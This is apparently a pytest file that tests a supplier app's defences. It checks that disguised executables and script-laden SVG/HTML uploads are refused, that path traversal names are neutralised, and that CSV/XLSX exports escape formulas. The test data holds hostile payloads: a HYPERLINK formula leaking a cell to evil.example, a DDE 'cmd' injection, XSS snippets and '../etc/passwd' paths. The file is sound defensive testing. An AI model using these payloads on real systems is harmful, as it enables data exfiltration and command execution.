"""Hostile uploads are refused or only ever served as downloads; exports never hand a spreadsheet a formula."""
import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from matchmaker.extensions import db
from matchmaker.suppliers.cli import export_suppliers
from matchmaker.suppliers.documents import DEFAULT_MAX_BYTES
from matchmaker.suppliers.models import Certification
from tests.factories import SupplierFactory, supplier_user

PDF = b"%PDF-1.4\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def owner(client_for):
    user, supplier = supplier_user(SupplierFactory(name="Cơ khí Thăng Long"))
    db.session.commit()
    return client_for(user), supplier


def _upload(client, supplier, data, filename):
    return client.post(f"/suppliers/{supplier.id}/certifications", content_type="multipart/form-data", data={
        "new-name": "ISO 9001:2015", "new-valid_until": "2030-01-01",
        "new-document": (io.BytesIO(data), filename)})


def _stored_files(app):
    return [p for p in Path(app.config["UPLOAD_FOLDER"]).rglob("*") if p.is_file()]


@pytest.mark.parametrize("data, filename", [
    (b"\x7fELF\x02\x01\x01" + b"\0" * 200, "datasheet.pdf"),
    (b"MZ\x90\x00\x03" + b"\0" * 200, "certificate.pdf"),
    (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "logo.svg"),
    (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "scan.png"),
    (b"<html><script>alert(1)</script></html>", "certificate.pdf"),
])
def test_files_that_are_not_pdf_jpeg_or_png_are_refused(app, owner, data, filename):
    client, supplier = owner
    before = _stored_files(app)
    response = client.post(f"/suppliers/{supplier.id}/certifications", content_type="multipart/form-data", data={
        "new-name": "ISO 9001:2015", "new-document": (io.BytesIO(data), filename)})
    assert response.status_code == 400 and "Only PDF, JPEG or PNG" in response.get_data(as_text=True)
    assert _stored_files(app) == before and db.session.scalar(db.select(db.func.count(Certification.id))) == 0


def test_an_oversize_file_is_refused(app, owner):
    client, supplier = owner
    before = _stored_files(app)
    response = _upload(client, supplier, PDF + b"0" * DEFAULT_MAX_BYTES, "big.pdf")
    assert response.status_code == 400 and "too large" in response.get_data(as_text=True)
    assert _stored_files(app) == before


def test_a_path_traversal_name_is_stored_under_a_random_name_and_served_as_a_download(app, owner):
    client, supplier = owner
    response = _upload(client, supplier, PDF, "../../etc/passwd.pdf")
    assert response.status_code == 302
    cert = db.session.scalars(db.select(Certification)).one()
    root = Path(app.config["UPLOAD_FOLDER"]).resolve()
    stored = (root / cert.document_path).resolve()
    assert root in stored.parents and stored.read_bytes() == PDF and "passwd" not in cert.document_path
    assert "/" not in cert.document_name and ".." not in cert.document_name
    download = client.get(f"/suppliers/{supplier.id}/certifications/{cert.id}/document")
    assert download.status_code == 200 and download.mimetype == "application/pdf"
    assert download.headers["Content-Disposition"].startswith("attachment")
    assert download.headers["X-Content-Type-Options"] == "nosniff"


def test_a_stored_path_outside_the_upload_folder_is_never_served(owner):
    client, supplier = owner
    cert = Certification(supplier=supplier, name="ISO 9001", normalised_name="ISO 9001",
                         document_path="../../../../etc/passwd", document_mime="application/pdf")
    db.session.add(cert)
    db.session.commit()
    assert client.get(f"/suppliers/{supplier.id}/certifications/{cert.id}/document").status_code == 404


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_supplier_export_escapes_formulas(tmp_path, suffix):
    SupplierFactory(name=FORMULA, name_en="+1+2", description="@SUM(A1:A9)")
    db.session.commit()
    path = tmp_path / f"suppliers{suffix}"
    export_suppliers(str(path))
    cells = _cells(path)
    assert "'" + FORMULA in cells and "'+1+2" in cells and "'@SUM(A1:A9)" in cells
    assert not any(isinstance(c, str) and c.startswith(("=", "+", "@")) for c in cells)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_shortlist_exports_escape_formulas(world, client_for, tmp_path, fmt):
    world["companies"][1].name = FORMULA
    world["entries"]["own"].note = "=cmd|' /C calc'!A0"
    db.session.commit()
    response = client_for(world["buyer"]).get(f"/shortlists/{world['shortlists']['own'].id}/export.{fmt}")
    assert response.status_code == 200
    path = tmp_path / f"shortlist.{fmt}"
    path.write_bytes(response.data)
    cells = _cells(path)
    assert "'" + FORMULA in cells and "'=cmd|' /C calc'!A0" in cells
    assert not any(isinstance(c, str) and c.startswith("=") for c in cells)


def _cells(path):
    if path.suffix == ".csv":
        return [cell for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))) for cell in row]
    sheet = load_workbook(path).worksheets[0]
    return [cell.value for row in sheet.iter_rows() for cell in row]
